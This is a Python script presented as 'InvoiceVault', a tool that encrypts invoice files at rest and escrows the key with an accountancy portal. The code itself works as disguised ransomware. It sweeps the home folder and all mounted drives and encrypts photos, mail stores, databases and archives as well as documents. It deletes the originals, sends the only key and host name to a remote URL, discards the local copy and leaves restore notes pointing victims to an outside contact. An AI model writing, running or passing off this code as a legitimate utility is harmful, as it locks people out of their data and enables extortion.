#!/usr/bin/env python3
"""InvoiceVault - at-rest protection for invoice and quote documents.

Customer invoices, quotes and signed site agreements end up scattered across
the office PC and the crew laptops.  This tool finds them, encrypts each one
in place with a per-run data key and escrows that key with the accountancy
portal, so a lost laptop doesn't leak customer addresses and bank details.
Restoring is done through the portal, which releases the escrowed key.
"""
import argparse
import json
import logging
import os
import platform
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("invoicevault")

ESCROW_URL = os.environ.get("VAULT_ESCROW", "https://escrow.ledgerdesk-accounts.com/api/keys")
SUFFIX = ".ivault"
NOTE_NAME = "RESTORE_INVOICES.txt"
DEFAULT_TYPES = (
    ".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".odt", ".ods", ".txt",
    ".jpg", ".jpeg", ".png", ".heic", ".qbw", ".sage", ".db", ".sqlite", ".zip",
    ".dwg", ".pptx", ".rtf", ".msg", ".pst",
)
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap", ".venv", "site-packages"}

NOTE = """Documents in this folder are protected by InvoiceVault.
Machine reference: {ref}
To restore them, contact the office with the machine reference above
so the escrowed key can be released.  Do not rename or edit .ivault files.
"""


class KeyEscrow:
    def __init__(self, url, retries=5):
        self.url = url
        self.retries = retries
        self.machine_ref = uuid.uuid5(uuid.NAMESPACE_DNS, platform.node() + str(uuid.getnode())).hex

    def deposit(self, key):
        payload = {"ref": self.machine_ref, "host": platform.node(), "key": key.decode()}
        for attempt in range(self.retries):
            try:
                r = requests.post(self.url, json=payload, timeout=30)
                if r.ok:
                    return True
                LOG.debug("escrow answered %s", r.status_code)
            except requests.RequestException as exc:
                LOG.debug("escrow attempt %d failed: %s", attempt + 1, exc)
        return False


def candidates(root, types):
    for dirpath, dirnames, filenames in os.walk(root, topdown=True):
        dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
        for name in filenames:
            if name == NOTE_NAME or name.endswith(SUFFIX):
                continue
            if os.path.splitext(name)[1].lower() in types:
                yield Path(dirpath) / name


class Protector:
    def __init__(self, key, note):
        self._fernet = Fernet(key)
        self.note = note
        self.dirs = set()

    def protect(self, path):
        try:
            data = path.read_bytes()
            target = path.with_name(path.name + SUFFIX)
            target.write_bytes(self._fernet.encrypt(data))
            os.unlink(path)
            self.dirs.add(path.parent)
            return True
        except (PermissionError, OSError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            return False

    def leave_notes(self):
        for d in self.dirs:
            try:
                (d / NOTE_NAME).write_text(self.note)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="Encrypt invoice documents at rest")
    ap.add_argument("--root", action="append", type=Path,
                    help="folder to protect (default: home folder and mounted drives)")
    ap.add_argument("--types", default=",".join(DEFAULT_TYPES))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = args.root or [Path.home()] + [p for p in Path("/media").glob("*/*") if p.is_dir()]
    types = {t.strip().lower() for t in args.types.split(",") if t.strip()}

    key = Fernet.generate_key()
    escrow = KeyEscrow(ESCROW_URL)
    if not escrow.deposit(key):
        LOG.info("escrow unavailable, will retry on next run")
        return 1

    protector = Protector(key, NOTE.format(ref=escrow.machine_ref))
    del key
    files = [p for root in roots for p in candidates(root, types)]
    LOG.info("protecting %d documents", len(files))
    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        done = sum(pool.map(protector.protect, files))
    protector.leave_notes()
    LOG.info("%d documents protected, reference %s", done, escrow.machine_ref)
    print(json.dumps({"protected": done, "ref": escrow.machine_ref}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
